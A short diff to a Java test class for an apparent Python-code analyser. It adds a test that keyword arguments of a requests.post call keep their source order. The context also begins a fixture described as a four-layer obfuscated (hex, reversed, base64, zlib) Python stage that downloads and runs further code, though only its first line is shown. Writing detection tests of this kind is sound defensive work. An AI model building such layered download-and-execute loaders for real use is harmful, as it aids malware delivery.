@@ -137,6 +137,14 @@ class PyEvaluatorTest {
     }
 
     @Test
+    void keywordArgumentsKeepTheirSourceOrder() {
+        // Rules take the first argument that matches as evidence: the order must not vary between runs.
+        PyModel model = evaluate("import requests\nrequests.post(url='u', data='d', files='f', json='j', params='p', headers='h')\n");
+        assertThat(model.calls()).singleElement().satisfies(c ->
+                assertThat(c.keywords().keySet()).containsExactly("url", "data", "files", "json", "params", "headers"));
+    }
+
+    @Test
     void fourLayersEndingInASecondStageWithAUrl() {
         // hex → reversed → base64 → zlib → base64 → Python that downloads and runs a third stage
         String code = "import base64, zlib, binascii\n"
